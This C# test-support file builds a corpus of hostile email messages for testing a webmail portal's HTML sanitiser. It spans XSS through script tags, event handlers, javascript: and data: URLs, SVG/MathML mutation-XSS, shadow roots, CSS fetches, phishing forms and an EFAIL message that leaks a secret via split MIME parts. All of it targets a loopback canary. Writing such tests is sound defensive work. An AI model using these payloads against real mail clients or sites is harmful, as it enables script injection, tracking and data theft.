using System.Text;
using MimeKit;
using MimeKit.Utils;

namespace OmePortal.Testing;

/// <summary>One malicious message of the <see cref="HostileMail"/> corpus.</summary>
/// <param name="Name">A short id, also used in the canary URLs of its payloads (so a leak names its vector).</param>
/// <param name="Vector">What the message tries.</param>
/// <param name="Build">Builds the message; the argument is the canary base URL (e.g. <c>http://127.0.0.1:4711</c>).</param>
/// <param name="Secret">Text the message hides in one MIME part that must never end up inside a URL (EFAIL), or null.</param>
public sealed record HostileCase(string Name, string Vector, Func<string, MimeMessage> Build, string? Secret = null)
{
    public override string ToString() => Name;
}

/// <summary>
/// A corpus of malicious messages (issue 3, item 10) for the browser tests and any other test that
/// wants to feed the portal hostile mail. Every payload tries to (a) run script — it then sets
/// <c>window.pwned</c>, calls <c>pwn()</c>, logs "pwned" and fetches the canary — and (b) make the
/// browser fetch something from the canary host, which must never be the portal itself. Nothing here
/// reaches past loopback: the canary is a loopback URL chosen by the test.
/// </summary>
public static class HostileMail
{
    public const string Recipient = "target@example.nl";
    public const string Sender = "attacker@evil.test";

    public static IReadOnlyList<HostileCase> All { get; } =
    [
        new("script", "script elements in every spelling, external and inline, and scripts hidden by the parser", c => Html("script", $$"""
            <p>Quarterly figures attached.</p>
            <script>{{Js(c, "script-inline")}}</script>
            <SCRIPT type="text/javascript">{{Js(c, "script-upper")}}</SCRIPT>
            <script type="module">{{Js(c, "script-module")}}</script>
            <script src="{{c}}/script/external.js"></script>
            <scr<script>ipt>{{Js(c, "script-split")}}</scr</script>ipt>
            <noscript><p title="</noscript><img src=x onerror={{Js(c, "noscript")}}>"></p></noscript>
            <script>/*<!--*/{{Js(c, "script-comment")}}//--></script>
            <xmp><script>{{Js(c, "xmp")}}</script></xmp>
            <noembed><img src=x onerror="{{Js(c, "noembed")}}"></noembed>
            <div>text<![CDATA[<script>{{Js(c, "cdata")}}</script>]]></div>
            """)),

        new("event-handlers", "on* attributes on every kind of element, including ones that fire without a click", c => Html("event-handlers", $$"""
            <p onclick="{{Js(c, "onclick")}}">Click me</p>
            <img src="x" onerror="{{Js(c, "img-onerror")}}" alt="broken">
            <img src="cid:missing@evil.test" onerror="{{Js(c, "cid-onerror")}}" alt="missing">
            <body onload="{{Js(c, "body-onload")}}" onpageshow="{{Js(c, "body-onpageshow")}}">
            <div style="width:100px;height:100px" onmouseover="{{Js(c, "onmouseover")}}">hover</div>
            <details open ontoggle="{{Js(c, "ontoggle")}}"><summary>x</summary>y</details>
            <input autofocus onfocus="{{Js(c, "onfocus")}}">
            <video src="x" onerror="{{Js(c, "video-onerror")}}"></video>
            <audio src="x" onerror="{{Js(c, "audio-onerror")}}"></audio>
            <marquee onstart="{{Js(c, "marquee")}}">m</marquee>
            <table background="x" onerror="{{Js(c, "table-onerror")}}"><tr><td>t</td></tr></table>
            <div onanimationstart="{{Js(c, "onanimationstart")}}" style="animation:spin 1s">a</div>
            <img src=x oNeRrOr={{Js(c, "mixed-case")}}>
            <img src=x onerror&#x3d;"{{Js(c, "entity-eq")}}">
            <a href="https://example.test" onfocusin="{{Js(c, "onfocusin")}}" autofocus tabindex="1">link</a>
            """)),

        new("javascript-urls", "javascript:, vbscript: and obfuscated script URLs in every URL attribute", c => Html("javascript-urls", $$"""
            <a href="javascript:{{Js(c, "a-href")}}">plain</a>
            <a href="JaVaScRiPt:{{Js(c, "a-href-case")}}">case</a>
            <a href="java&#x09;script:{{Js(c, "a-href-tab")}}">tab</a>
            <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{{Js(c, "a-href-entities")}}">entities</a>
            <a href=" &#14; javascript:{{Js(c, "a-href-control")}}">control</a>
            <a href="vbscript:msgbox(1)">vb</a>
            <iframe src="javascript:{{Js(c, "iframe-src")}}"></iframe>
            <img src="javascript:{{Js(c, "img-src")}}" alt="j">
            <area shape="rect" coords="0,0,10,10" href="javascript:{{Js(c, "area")}}">
            <object data="javascript:{{Js(c, "object")}}"></object>
            <embed src="javascript:{{Js(c, "embed")}}">
            <form action="javascript:{{Js(c, "form-action")}}"><button>go</button></form>
            <button formaction="javascript:{{Js(c, "formaction")}}">go</button>
            <math><maction actiontype="statusline" xlink:href="javascript:{{Js(c, "maction")}}">m</maction></math>
            <a href="https://example.test" style="x:expression({{Js(c, "css-expression")}})">expr</a>
            """)),

        new("data-urls", "data: URLs that carry documents and scripts (only data:image may stay, and only in img)", c => Html("data-urls", $$"""
            <iframe src="data:text/html,%3Cscript%3E{{Uri.EscapeDataString(Js(c, "iframe-data"))}}%3C/script%3E"></iframe>
            <a href="data:text/html;base64,{{Convert.ToBase64String(Encoding.UTF8.GetBytes("<script>" + Js(c, "a-data") + "</script>"))}}">open</a>
            <object data="data:text/html,<script>{{Js(c, "object-data")}}</script>"></object>
            <embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{{Js(c, "embed-svg")}}'/>">
            <script src="data:text/javascript,{{Uri.EscapeDataString(Js(c, "script-data"))}}"></script>
            <img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='{{c}}/data-urls/svg-in-img'/%3E%3C/svg%3E" alt="svg">
            <img src="data:text/html,<script>{{Js(c, "img-data-html")}}</script>" alt="html">
            <link rel="stylesheet" href="data:text/css,body{background:url({{c}}/data-urls/link-css)}">
            <div style="background-image:url('data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22{{c}}/data-urls/css-svg%22/></svg>')">bg</div>
            """)),

        new("svg-foreign", "svg foreign content: script, handlers, links, images, styles and mutation-XSS through the svg parser", c => Html("svg-foreign", $$"""
            <svg><script>{{Js(c, "svg-script")}}</script></svg>
            <svg onload="{{Js(c, "svg-onload")}}"></svg>
            <svg><a xlink:href="javascript:{{Js(c, "svg-a")}}"><text x="10" y="20">click</text></a></svg>
            <svg><animate onbegin="{{Js(c, "svg-animate")}}" attributeName="x" dur="1s"/></svg>
            <svg><set attributeName="onmouseover" to="{{Js(c, "svg-set")}}"/></svg>
            <svg><image href="{{c}}/svg-foreign/image"/><image xlink:href="{{c}}/svg-foreign/ximage"/></svg>
            <svg><foreignObject><img src="{{c}}/svg-foreign/fo-img" onerror="{{Js(c, "svg-fo")}}"></foreignObject></svg>
            <svg><style>@import url({{c}}/svg-foreign/import.css); svg{background:url({{c}}/svg-foreign/bg)}</style></svg>
            <svg></p><style><a id="</style><img src=x onerror={{Js(c, "svg-mxss")}}>"></svg>
            <svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='{{c}}/svg-foreign/use'/></svg>#x"/></svg>
            <p>after svg</p>
            """)),

        new("math-foreign", "MathML foreign content and the namespace-confusion mutation-XSS tricks", c => Html("math-foreign", $$"""
            <math><mtext><table><mglyph><style><img src=x onerror="{{Js(c, "math-mglyph")}}"></style></mglyph></table></mtext></math>
            <math><mi xlink:href="javascript:{{Js(c, "math-mi")}}">x</mi></math>
            <math href="javascript:{{Js(c, "math-href")}}">click</math>
            <form><math><mtext></form><form><mglyph><style></math><img src onerror="{{Js(c, "math-form")}}">
            <math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='{{Js(c, "math-nested")}}'>"></style></mtext></svg></mglyph></h1></mtext></math>
            <math><annotation-xml encoding="text/html"><img src="{{c}}/math-foreign/annotation" onerror="{{Js(c, "math-annotation")}}"></annotation-xml></math>
            <p>after math</p>
            """)),

        new("template-shadowroot", "template contents and declarative shadow roots (shadowrootmode) hiding payloads from a sanitiser", c => Html("template-shadowroot", $$"""
            <template><img src=x onerror="{{Js(c, "template")}}"><img src="{{c}}/template-shadowroot/template"></template>
            <div><template shadowrootmode="open"><img src=x onerror="{{Js(c, "shadow-open")}}"><style>@import url({{c}}/template-shadowroot/shadow.css)</style><img src="{{c}}/template-shadowroot/shadow-img"></template>host</div>
            <div><template shadowrootmode="closed"><img src=x onerror="{{Js(c, "shadow-closed")}}"></template>closed host</div>
            <div><template shadowroot="open"><img src=x onerror="{{Js(c, "shadow-legacy")}}"></template>legacy host</div>
            <p><template shadowrootmode="open" shadowrootdelegatesfocus><slot></slot><script>{{Js(c, "shadow-script")}}</script></template>slot</p>
            """)),

        new("deep-nesting", "600-deep nesting (parser limits, CVE-2023-44390 class) with payloads at the bottom", c => Html("deep-nesting",
            string.Concat(Enumerable.Repeat("<div>", 600))
            + $"<img src=x onerror=\"{Js(c, "deep-div")}\"><img src=\"{c}/deep-nesting/div\"><svg><style><img src=x onerror=\"{Js(c, "deep-svg")}\"></style></svg>deep text"
            + string.Concat(Enumerable.Repeat("</div>", 600))
            + string.Concat(Enumerable.Repeat("<b><i><span>", 200))
            + $"<math><mtext><table><mglyph><style><img src=x onerror=\"{Js(c, "deep-math")}\"></style></mglyph></table></mtext></math><a href=\"javascript:{Js(c, "deep-a")}\">x</a>"
            + string.Concat(Enumerable.Repeat("</span></i></b>", 200))
            + string.Concat(Enumerable.Repeat("<table><tr><td>", 120))
            + $"<img src=\"{c}/deep-nesting/table\">"
            + string.Concat(Enumerable.Repeat("</td></tr></table>", 120)))),

        new("css", "CSS that fetches: url(), @import, var(), image-set(), @font-face, escapes, expression(), behavior", c => Html("css", $$"""
            <style>
              @import url({{c}}/css/import-url.css);
              @import '{{c}}/css/import-string.css';
              @font-face { font-family: evil; src: url({{c}}/css/font.woff); }
              body { background: url({{c}}/css/body-bg.png); font-family: evil; }
              p { --u: url({{c}}/css/var.png); background-image: var(--u); }
              div.set { background-image: image-set(url({{c}}/css/set.png) 1x, "{{c}}/css/set2.png" 2x); }
              div.webkit { background-image: -webkit-image-set(url({{c}}/css/wset.png) 1x); }
              li { list-style: url({{c}}/css/list.png); }
              a { cursor: url({{c}}/css/cursor.cur), auto; }
              div.escaped { background: u\72 l({{c}}/css/escaped.png); }
              div.comment { background: u/**/rl({{c}}/css/comment.png); }
              div.border { border-image: url({{c}}/css/border.png) 30; }
              div.mask { mask-image: url({{c}}/css/mask.png); -webkit-mask-image: url({{c}}/css/wmask.png); }
              div.content::before { content: url({{c}}/css/content.png); }
              div.expr { width: expression({{Js(c, "css-expression")}}); behavior: url({{c}}/css/behavior.htc); -moz-binding: url({{c}}/css/binding.xml); }
            </style>
            <p>paragraph</p>
            <div class="set">set</div><div class="webkit">webkit</div><ul><li>item</li></ul><a href="https://example.test">a</a>
            <div class="escaped">escaped</div><div class="comment">comment</div><div class="border">border</div>
            <div class="mask">mask</div><div class="content">content</div><div class="expr">expr</div>
            <div style="background:url({{c}}/css/inline.png)">inline</div>
            <div style="background-image:url(&quot;{{c}}/css/inline-quoted.png&quot;)">quoted</div>
            <div style="--x:url({{c}}/css/inline-var.png);background-image:var(--x)">inline var</div>
            <div style="background-image:image-set('{{c}}/css/inline-set.png' 1x)">inline set</div>
            <div style="background:\75\72\6c({{c}}/css/inline-escaped.png)">inline escaped</div>
            <div style="list-style-image:url({{c}}/css/inline-list.png)"><ul><li>x</li></ul></div>
            <link rel="stylesheet" href="{{c}}/css/link.css">
            """)),

        new("meta-refresh", "meta refresh and other http-equiv tricks", c => Html("meta-refresh", $$"""
            <meta http-equiv="refresh" content="0;url={{c}}/meta-refresh/refresh">
            <meta http-equiv="refresh" content="1; URL='javascript:{{Js(c, "refresh-js")}}'">
            <meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
            <meta http-equiv="set-cookie" content="evil=1">
            <meta name="referrer" content="unsafe-url">
            <p>refresh</p>
            """)),

        new("base-href", "base href and target rewriting relative URLs towards another host", c => Html("base-href", $$"""
            <base href="{{c}}/base-href/">
            <base target="_top">
            <img src="relative.png" alt="relative">
            <img src="/rooted.png" alt="rooted">
            <a href="relative-link">relative link</a>
            <link rel="stylesheet" href="base.css">
            """)),

        new("forms", "forms, inputs, buttons and form-associated elements (credential phishing, auto-submit)", c => Html("forms", $$"""
            <form action="{{c}}/forms/post" method="post" id="login"><label>Password <input type="password" name="password" value="secret"></label><button type="submit">Sign in</button></form>
            <form id="auto" action="{{c}}/forms/auto"></form><button form="auto">outside</button>
            <input type="image" src="{{c}}/forms/input-image" alt="submit">
            <button formaction="{{c}}/forms/formaction">formaction</button>
            <isindex action="{{c}}/forms/isindex">
            <select><option>1</option></select><textarea name="t">text</textarea>
            <keygen name="k"><output>o</output>
            """)),

        new("remote-images", "remote images and every other way to fetch a tracking pixel", c => Html("remote-images", $$"""
            <img src="{{c}}/remote-images/pixel.gif" width="1" height="1" alt="">
            <img src="{{c}}/remote-images/visible.png" alt="photo">
            <img srcset="{{c}}/remote-images/srcset.png 2x" alt="srcset">
            <picture><source srcset="{{c}}/remote-images/picture.png"><img src="cid:none@evil.test" alt="picture"></picture>
            <table background="{{c}}/remote-images/table-bg"><tr><td background="{{c}}/remote-images/td-bg">cell</td></tr></table>
            <video poster="{{c}}/remote-images/poster.png" src="{{c}}/remote-images/video.mp4"></video>
            <audio src="{{c}}/remote-images/audio.mp3" autoplay></audio>
            <img src="//{{new Uri(c).Authority}}/remote-images/protocol-relative.gif" alt="pr">
            <img src="{{c}}/remote-images/&#x09;tab.gif" alt="tab">
            <img lowsrc="{{c}}/remote-images/lowsrc.gif" alt="lowsrc">
            <image src="{{c}}/remote-images/image-tag.gif">
            <link rel="prefetch" href="{{c}}/remote-images/prefetch"><link rel="preload" as="image" href="{{c}}/remote-images/preload">
            <link rel="dns-prefetch" href="{{c}}"><link rel="preconnect" href="{{c}}">
            <a href="https://example.test/" ping="{{c}}/remote-images/ping">pinged link</a>
            <iframe src="{{c}}/remote-images/iframe"></iframe><frameset><frame src="{{c}}/remote-images/frame"></frameset>
            <object data="{{c}}/remote-images/object"></object><embed src="{{c}}/remote-images/embed">
            <portal src="{{c}}/remote-images/portal"></portal>
            """)),

        new("efail", "EFAIL direct exfiltration: <img src=\" opened in one MIME part and closed in another", Efail, Secret: "EFAIL-SECRET-7f3c9e"),

        new("headers", "payloads in the subject, display names and attachment file names (shown by the page itself, outside the frame)", c =>
        {
            var message = Html("headers", "<p>Look at the headers.</p>");
            message.Subject = $"<script>{Js(c, "subject-script")}</script><img src=x onerror=\"{Js(c, "subject-img")}\">";
            message.From.Clear();
            message.From.Add(new MailboxAddress($"\"><img src={c}/headers/from onerror={Js(c, "from-name")}>", Sender));
            message.To.Clear();
            message.To.Add(new MailboxAddress($"<svg onload={Js(c, "to-name")}>", Recipient));
            var multipart = new Multipart("mixed") { message.Body! };
            multipart.Add(new MimePart("application", "pdf")
            {
                Content = new MimeContent(new MemoryStream("%PDF-1.7\n"u8.ToArray())),
                ContentDisposition = new ContentDisposition(ContentDisposition.Attachment) { FileName = "\"><img src=x onerror=pwn('filename')>.pdf" }, // no '/': file names lose their path
                ContentTransferEncoding = ContentEncoding.Base64,
            });
            message.Body = multipart;
            return message;
        }),

        new("plain-text", "a text/plain body full of markup, which must be shown as text", c =>
        {
            var message = Base("plain-text");
            message.Body = new TextPart("plain") { Text = CaseMarker("plain-text") + $"\n<script>{Js(c, "plain-script")}</script>\n<img src=\"{c}/plain-text/img\" onerror=\"{Js(c, "plain-img")}\">\n<a href=\"javascript:{Js(c, "plain-a")}\">x</a>\n" };
            return message;
        }),

        new("embedded-content", "frames, objects, embeds, applets, portals and imports", c => Html("embedded-content", $$"""
            <iframe srcdoc="<script>{{Js(c, "srcdoc")}}</script><img src='{{c}}/embedded-content/srcdoc'>"></iframe>
            <iframe src="{{c}}/embedded-content/iframe"></iframe>
            <object data="{{c}}/embedded-content/object" type="text/html"></object>
            <embed src="{{c}}/embedded-content/embed" type="text/html">
            <applet code="Evil.class" codebase="{{c}}/embedded-content/applet"></applet>
            <link rel="import" href="{{c}}/embedded-content/import.html">
            <frameset onload="{{Js(c, "frameset")}}"><frame src="{{c}}/embedded-content/frame"></frameset>
            <p>embedded</p>
            """)),
    ];

    public static HostileCase Find(string name) => All.Single(c => c.Name == name);

    /// <summary>
    /// The script of a payload: marks that it ran in four independent ways and phones home to the canary.
    /// Single quotes only, so it fits in double-quoted attributes and in URLs.
    /// </summary>
    public static string Js(string canary, string tag) =>
        $"window.pwned='{tag}';try{{pwn('{tag}')}}catch(e){{}};document.documentElement.setAttribute('data-pwned','{tag}');console.log('pwned {tag}');fetch('{canary}/js/{tag}')";

    private static MimeMessage Base(string name)
    {
        var message = new MimeMessage();
        message.From.Add(new MailboxAddress("Mallory", Sender));
        message.To.Add(new MailboxAddress("Target", Recipient));
        message.Subject = "Hostile: " + name;
        message.MessageId = MimeUtils.GenerateMessageId("evil.test");
        message.Date = DateTimeOffset.UtcNow;
        return message;
    }

    /// <summary>The visible text every case's body starts with: proof that the body was shown at all.</summary>
    public static string CaseMarker(string name) => "hostile case " + name;

    private static MimeMessage Html(string name, string html)
    {
        var message = Base(name);
        message.Body = new TextPart("html")
        {
            Text = "<!doctype html><html><head><title>hostile</title></head><body><p>" + CaseMarker(name) + "</p>" + html + "</body></html>",
            ContentTransferEncoding = ContentEncoding.QuotedPrintable,
        };
        return message;
    }

    /// <summary>
    /// multipart/mixed: [text/html: &lt;img src="CANARY/efail?] [text/plain + text/html: the secret] [text/html: "&gt;].
    /// A client that joins the parts before parsing sends the secret to the canary inside the image URL.
    /// </summary>
    private static MimeMessage Efail(string canary)
    {
        const string secret = "EFAIL-SECRET-7f3c9e";
        var message = Base("efail");
        message.Body = new Multipart("mixed")
        {
            new TextPart("html") { Text = $"<html><body><p>{CaseMarker("efail")}</p><img src=\"{canary}/efail/img?" },
            new TextPart("html") { Text = $"<p>{secret}</p>" },
            new TextPart("html") { Text = $"<a href=\"{canary}/efail/link?" },
            new TextPart("html") { Text = $"{secret}-2" },
            new TextPart("html") { Text = "\">\"></a></body></html>" },
        };
        return message;
    }
}
